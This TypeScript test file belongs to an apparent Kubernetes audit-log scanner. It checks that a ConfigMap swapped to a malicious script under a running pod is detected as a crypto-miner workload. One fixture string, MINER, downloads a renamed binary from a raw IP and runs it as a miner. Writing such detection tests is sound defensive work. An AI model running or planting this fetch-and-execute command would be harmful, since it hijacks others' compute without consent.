// A script swap: a pod is created reading a harmless `run.sh` from a ConfigMap (judged clean), and
// the ConfigMap is then changed to a miner. The pod runs it on its next start (a mounted ConfigMap
// is even refreshed in place), while the ConfigMap alone is only data. Found by attacking
// `kfguard audit`; silent before: the change is now judged against the workloads that read it.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { huntAuditLogs } from '../../src/audit/hunt-logs.js';
import type { AuditHuntLimits } from '../../src/audit/hunt-log.js';
import { ALL_RULES } from '../../src/rules/index.js';
import { auditEvent, jsonLines } from './events.js';

const threatRules = ALL_RULES.filter((rule) => rule.meta.sources.includes('audit') && rule.meta.category === 'threat');
const NS = 'team-a';
const configMap = (script: string) => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'boot', namespace: NS }, data: { 'run.sh': script } });
const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'trainer', namespace: NS }, spec: { containers: [{ name: 'main', image: 'tensorflow/tensorflow:2.15.0', command: ['sh', '/boot/run.sh'], volumeMounts: [{ name: 'b', mountPath: '/boot' }] }], volumes: [{ name: 'b', configMap: { name: 'boot' } }] } };
// No listed pool and no wallet: a renamed miner from a raw IP, pointed at a host:port.
const MINER = '#!/bin/sh\ncurl -s http://45.9.148.21/d -o /tmp/dns-filter && chmod +x /tmp/dns-filter && /tmp/dns-filter --url 45.9.148.21:3333 --cpu-max-threads-hint=60\n';

async function hunt(events: readonly unknown[], limits: Partial<AuditHuntLimits> = {}) {
  const text = Buffer.from(jsonLines(events));
  async function* chunks(): AsyncGenerator<Buffer> {
    yield text;
  }
  return huntAuditLogs([{ chunks: chunks(), display: 'swap.log' }], { rules: threatRules, limits });
}

describe('audit: a ConfigMap changed under a workload that runs it', () => {
  const events = [
    auditEvent({ verb: 'create', resource: 'configmaps', namespace: NS, name: 'boot', auditID: 'cm-create', requestObject: configMap('#!/bin/sh\npython train.py\n') }),
    auditEvent({ verb: 'create', resource: 'pods', namespace: NS, name: 'trainer', auditID: 'pod-create', requestObject: pod }),
    auditEvent({ verb: 'update', resource: 'configmaps', namespace: NS, name: 'boot', auditID: 'cm-swap', user: 'eve@example.com', requestObject: configMap(MINER) }),
  ];

  test('the pod is judged again with the new script; the finding names the request that changed it', async () => {
    const result = await hunt(events);
    assert.deepEqual(result.errors, []);
    const [finding, ...more] = result.findings;
    assert.equal(more.length, 0, JSON.stringify(result.findings.map((f) => f.resource)));
    assert.equal(finding?.ruleId, 'crypto-miner-workload');
    assert.equal(finding?.severity, 'critical');
    assert.deepEqual([finding?.resource.kind, finding?.resource.name], ['Pod', 'trainer']);
    assert.equal((finding?.origin as { auditID?: string; user?: string }).auditID, 'cm-swap');
    assert.equal((finding?.origin as { auditID?: string; user?: string }).user, 'eve@example.com');
    assert.match(finding?.evidence.join('\n') ?? '', /judged again: ConfigMap team-a\/boot, which it reads, was changed by this request/);
  });

  test('a deleted pod reads nothing any more; a reader over the budget is a warning, not silence', async () => {
    const deleted = await hunt([events[0], events[1], auditEvent({ verb: 'delete', resource: 'pods', namespace: NS, name: 'trainer' }), events[2]]);
    assert.deepEqual(deleted.findings, []);
    const tight = await hunt(events, { maxConfigReaderBytes: 64 });
    assert.deepEqual(tight.findings, []);
    assert.ok(tight.warnings.some((w) => /1 workload\(s\) reading ConfigMaps or Secrets not kept .*not judged against them/.test(w)), JSON.stringify(tight.warnings));
  });
});
